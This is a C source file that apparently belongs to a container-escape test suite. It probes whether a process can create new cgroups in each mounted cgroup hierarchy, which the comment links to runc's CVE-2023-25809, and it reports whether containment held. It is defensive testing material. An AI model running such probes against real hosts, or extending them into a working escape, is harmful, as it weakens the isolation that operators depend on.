/* SPDX-License-Identifier: Apache-2.0 */
/* Makes a group in each cgroup hierarchy that it finds mounted, from where limits can be lifted (runc's CVE-2023-25809). */
#include "../attack.h"
#include <mntent.h>
#include <sys/vfs.h>

#define CGROUP_SUPER_MAGIC 0x27e0eb
#define CGROUP2_SUPER_MAGIC 0x63677270

static int makes(const char *folder) {
  char path[512];
  struct statfs kind;
  snprintf(path, sizeof path, "%.400s/ambit-escape-%d", folder, getpid());
  if (statfs(folder, &kind) < 0 || (kind.f_type != CGROUP_SUPER_MAGIC && kind.f_type != CGROUP2_SUPER_MAGIC))
    return 0;
  if (mkdir(path, 0755) < 0)
    return 0;
  rmdir(path);
  return 1;
}

int main(int argc, char **argv) {
  int error = 0;
  for (int i = 1; i < argc; i++) {
    if (makes(argv[i]))
      worked("made a group in %s", argv[i]);
    if (open(argv[i], O_RDONLY) < 0 || access(argv[i], W_OK) < 0)
      error = errno;
  }
  FILE *mounts = setmntent("/proc/self/mounts", "r");
  int found = 0;
  for (struct mntent *mount; mounts != NULL && (mount = getmntent(mounts)) != NULL;) {
    found += strncmp(mount->mnt_type, "cgroup", 6) == 0;
    if (makes(mount->mnt_dir))
      worked("made a group in %s", mount->mnt_dir);
  }
  held("%d hierarchies are mounted, and none takes a new group; %s: %s", found, argument(argc, argv, 1), error_name(error));
}
